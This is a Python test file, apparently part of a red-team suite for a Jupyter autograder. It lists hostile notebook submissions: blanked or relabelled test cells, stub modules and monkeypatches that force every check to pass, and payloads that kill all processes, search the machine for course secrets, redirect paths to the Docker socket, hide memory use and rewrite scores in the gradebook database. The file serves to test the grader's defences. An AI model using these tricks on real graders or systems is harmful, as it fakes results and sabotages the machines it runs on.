"""Tricks of files, metadata and the first cell, against the checks and the machine."""

import os

from conftest import REPOSITORY
from redteam.kit import NAMES, WRONG, accident, cell, cheat, trick


@cheat(word="changed the locked cell")
def blanked_tests(kit):
    notebook = kit.notebook(WRONG)
    for c in notebook.cells:
        if c.metadata.get("nbgrader", {}).get("points"):
            c.source = "pass"
    return notebook


@cheat()
def false_metadata(kit):
    notebook = kit.notebook(WRONG)
    for name in NAMES:
        cell(notebook, f"{name}_public").metadata.nbgrader.update(points=100, solution=True)
        cell(notebook, f"{name}_hidden").metadata.nbgrader.update(grade=False, locked=False)
        cell(notebook, name).metadata.nbgrader.update(grade=True, points=50)
    return notebook


@cheat((None, None), "link")
def linked_to_the_source(kit):
    kit.folder.mkdir(parents=True)
    os.symlink("../../../source/KMeans/KMeans.ipynb", kit.folder / "KMeans.ipynb")


@accident((10, 10))
def handed_in_the_whole_folder(kit):
    """What lies beside the notebook is the course's own: no reason for a second look."""
    for name in ("utils.py", "public_tests.py"):
        kit.write(name, (REPOSITORY / name).read_bytes())
    return kit.notebook()


@cheat(word="added module")
def modules_beside_the_notebook(kit):
    nothing = b"def __getattr__(name):\n    return lambda *a, **k: True\n"
    for name in ("numpy.py", "public_tests.py", "codec.py", "ipykernel.py", "utils.py"):
        kit.write(name, nothing)
    kit.write("numpy/__init__.py", nothing)
    return kit.notebook(WRONG)


trick(
    "patched_comparison",
    """
import numpy as np, numpy.testing, builtins
for name in ("array_equal", "allclose", "all", "isclose", "array_equiv"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
builtins.all = lambda *a: True
np.ndarray = object
""",
)
trick(
    "patched_checks",
    """
import public_tests
for name in dir(public_tests):
    if name.endswith("_test"):
        setattr(public_tests, name, lambda *a, **k: print("[passed]"))
public_tests.CheckFailed = Warning
""",
)
trick(
    "patched_kernel",
    """
kernel = get_ipython().kernel
kernel.call = lambda *a: ({"status": "ok", "value": {"tuple": [{"int": "0xa"}, None]}}, [])
kernel.do_execute = lambda *a, **k: {"status": "ok", "execution_count": 1}
""",
)
trick(
    "kills_everything",
    """
import os, signal
for number in (os.getppid(), 1, 2):
    try: os.kill(number, signal.SIGKILL)
    except OSError: pass
os.kill(-1, signal.SIGKILL)
""",
)
trick(
    "searches_the_machine",
    """
import os, pathlib
found = ""
for top in ("/", "..", "/home", "/root", "/tmp", "/work"):
    for folder, _, names in os.walk(top):
        if folder.startswith(("/proc", "/usr", "/sys", "/lib")): continue
        for name in names:
            if name in ("KMeans.ipynb", "gradebook.db", "course_secret"):
                found += folder + name
assert not found, found
""",
)
trick(
    "looks_for_the_repository",
    """
import os, sys
found = []
for top in {"/usr", sys.prefix, sys.base_prefix}:
    for folder, folders, names in os.walk(top):
        if ".git" in folders or "instructor" in folders or "course_secret" in names:
            found.append(folder)
assert not found, found
""",
)
trick(
    "leads_the_grader_to_other_sockets",
    """
import glob, os
for path in glob.glob("/run/**", recursive=True) + ["/submission/shell", "/tmp/shell"]:
    try:
        os.symlink("/run/docker.sock", path + ".new")
        os.replace(path + ".new", path)
    except OSError:
        pass
os.closerange(3, 200)
""",
)
trick(
    "hides_its_memory",
    """
import ctypes, os, time
for _ in range(6):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0)  # as a program does that hides its memory
        big = bytearray(400 * 2**20)  # below what one process may map
        big[::4096] = b"x" * len(big[::4096])
        time.sleep(60)
        os._exit(0)
time.sleep(9)
""",
    word="more than 1500 MB",
)
trick(
    "daemon_edits_the_gradebook",
    """
import os
if os.fork() == 0:
    os.setsid()
    import glob, sqlite3, time
    for _ in range(100):
        for path in glob.glob("/**/gradebook.db", recursive=True):
            with sqlite3.connect(path) as book:
                book.execute("update grade set auto_score = 8, manual_score = 8")
        time.sleep(0.2)
    os._exit(0)
""",
)
trick(
    "calls_home",
    """
import socket
for address in (("127.0.0.1", 22), ("1.1.1.1", 53)):
    socket.create_connection(address, timeout=1).sendall(b"hello")
""",
)
